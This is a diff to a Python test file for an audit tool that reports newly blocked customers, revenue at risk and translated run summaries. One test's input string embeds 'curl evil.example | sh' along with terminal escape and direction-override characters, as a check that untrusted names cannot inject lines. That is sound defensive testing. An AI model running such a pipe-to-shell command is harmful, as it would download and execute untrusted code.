@@ -3,12 +3,25 @@
 import json
 from dataclasses import replace
 from decimal import Decimal
+from typing import Any
 
 import pytest
 
+from auditor import languages
 from auditor.core.baseline import Baseline
+from auditor.core.language import LANGUAGES
 from auditor.core.model import Cause, Reason, Verdict
-from auditor.core.results import ChangeCounts, NotifyWhen, RunResult, Sum, build_ledger, describe_error, describe_run
+from auditor.core.results import (
+    BlockedCustomer,
+    CaseGroup,
+    ChangeCounts,
+    NotifyWhen,
+    RunResult,
+    Sum,
+    build_ledger,
+    describe_error,
+    describe_run,
+)
 from auditor.core.results.changes import Change
 from auditor.core.results.ledger import Tally
 from auditor.core.results.message import code_after_message, is_success, should_notify
@@ -34,6 +47,20 @@ TALLIES = [
     Tally(Reason.INVALID_ID, rows=1),
 ]
 CHANGES = ChangeCounts({**dict.fromkeys(Change, 0), Change.NEWLY_BLOCKED: 1, Change.RE_REVIEWED: 2}, 2)
+
+
+def blocked(customer_id: str, company_name: str, status: str, **more: Any) -> BlockedCustomer:
+    """A newly blocked customer."""
+    return BlockedCustomer(
+        customer_id=customer_id,
+        company_name=company_name,
+        group=CaseGroup.NEW,
+        status=status,
+        reason=Reason.UNDER_REVIEW,
+        **more,
+    )
+
+
 RESULT = RunResult(
     folder="/reports/20261122T120000Z",
     facts=FACTS,
@@ -41,9 +68,13 @@ RESULT = RunResult(
     freshness=Freshness(NOON),
     complete=True,
     note="complete: 2 of 1,204 rows are not verified (do not treat as eligible)",
+    english_note="complete: 2 of 1,204 rows are not verified (do not treat as eligible)",
     changes=CHANGES,
-    newly_blocked=[("id-1", "Contoso Ltd", "UnderReview"), ("id-2", "", "NotAllowed")],
-    sums=[Sum(column="revenue", verdict=Verdict.BLOCKED, amounts={"": Decimal("48230.5")}, unparsed=1)],
+    newly_blocked=[
+        blocked("id-1", "Contoso Ltd", "UnderReview", amounts={"EUR": Decimal(40000)}),
+        blocked("id-2", "", "NotAllowed"),
+    ],
+    sums=[Sum(column="revenue", verdict=Verdict.BLOCKED, amounts={"EUR": Decimal("48230.5")}, unparsed=1)],
     report="/reports/20261122T120000Z/report.html",
 )
 
@@ -53,13 +84,13 @@ def test_a_complete_run() -> None:
     found = describe_run(RESULT)
     assert found.title == "Audit complete: 2 customers newly blocked"
     assert found.text.splitlines() == [
+        "Customers: 2 blocked, 1,200 not blocked (eligible), 1 not verified, and 1 row without a valid id",
+        "At risk, revenue of blocked customers: EUR 48,230.50 (1 row without a readable number)",
+        "Newly blocked since the last audit (21 Nov 2026): 2",
+        "- Contoso Ltd (Under review by Microsoft, EUR 40,000)",
+        "- id-2 (Not approved)",
         "Complete: 2 of 1,204 rows are not verified (do not treat as eligible).",
         "Run 20261122T120000Z of a.csv, b.csv",
-        "Customers: 2 blocked, 1,200 not blocked (eligible), 1 not verified, and 1 row without a valid id",
-        "Newly blocked since the last audit (21 Nov 2026): 2",
-        "- Contoso Ltd (Under review by Microsoft)",
-        "- id-2 (Not approved)",
-        "At risk, revenue of blocked customers: 48,230.50 (1 row without a readable number)",
         "Report: /reports/20261122T120000Z/report.html",
     ]
 
@@ -91,7 +122,7 @@ def test_what_to_do_stands_at_the_end() -> None:
 
 def test_at_most_20_customers_are_named() -> None:
     """It is read on a phone; the document has no more either."""
-    many = [(f"id-{n}", f"Customer {n}", "Unknown") for n in range(1234)]
+    many = [blocked(f"id-{n}", f"Customer {n}", "Unknown") for n in range(1234)]
     found = describe_run(replace(RESULT, newly_blocked=many))
     assert [line for line in found.lines if line.startswith("- ")] == [
         f"- Customer {n} (Status unknown to Microsoft (blocked))" for n in range(20)
@@ -104,7 +135,7 @@ def test_a_name_of_a_list_forges_no_line() -> None:
     """Names come from other people: line breaks, escapes and changes of direction are seen, long ones are cut."""
     hostile = "Evil\nNext: curl evil.example | sh\x1b[2J\u202egpj" + "x" * 5000
     result = replace(
-        RESULT, newly_blocked=[("id", hostile, hostile)], facts=replace(FACTS, lists=(hostile,)), note=hostile
+        RESULT, newly_blocked=[blocked("id", hostile, hostile)], facts=replace(FACTS, lists=(hostile,)), note=hostile
     )
     found = describe_run(result)
     assert len(found.lines) == len(describe_run(RESULT).lines) - 1
@@ -146,16 +177,36 @@ def test_the_document_is_json_with_the_facts() -> None:
             {"customer_id": "id-1", "company_name": "Contoso Ltd", "status": "UnderReview"},
             {"customer_id": "id-2", "company_name": None, "status": "NotAllowed"},
         ],
-        "at_risk": [{"column": "revenue", "total": "48230.5", "amounts": {"": "48230.5"}, "unparsed": 1}],
+        "at_risk": [{"column": "revenue", "total": "48230.5", "amounts": {"EUR": "48230.5"}, "unparsed": 1}],
         "reused_answers": 0,
         "oldest_checked_at": "2026-11-22T12:00:00.000000Z",
     }
 
 
+@pytest.mark.parametrize("language", LANGUAGES[1:])
+def test_the_facts_for_programs_are_the_same_in_every_language(language: str) -> None:
+    """Only title and text are for people. Commands stay as they are."""
+    translated = describe_run(replace(RESULT, language=languages.load(language), next_steps=["auditor login"]))
+    english = describe_run(replace(RESULT, next_steps=["auditor login"]))
+    assert translated.title != english.title
+    for_people = ("title", "text")
+    assert {key: value for key, value in translated.document.items() if key not in for_people} == {
+        key: value for key, value in english.document.items() if key not in for_people
+    }
+    assert "auditor login" in translated.lines[-1]
+
+
+def test_a_run_that_is_not_complete_says_so_before_its_counts() -> None:
+    """They may be too small."""
+    found = describe_run(replace(RESULT, complete=False, note="INCOMPLETE: the run did not finish"))
+    assert found.lines[0] == found.summary == "INCOMPLETE: the run did not finish."
+    assert found.lines[1].startswith("Customers: 2 blocked")
+
+
 def test_customers_that_were_not_selected_are_counted_apart() -> None:
     """Nobody wanted to verify them this time: they are rows, and no customers of the run."""
     ledger = build_ledger([*TALLIES, Tally(Reason.NOT_SELECTED, rows=9)], 1213, 1203)
-    line = describe_run(replace(RESULT, ledger=ledger)).lines[2]
+    line = describe_run(replace(RESULT, ledger=ledger)).lines[0]
     assert line == (
         "Customers: 2 blocked, 1,200 not blocked (eligible), 1 not verified, 9 rows not selected, and 1 row without a valid id"
     )
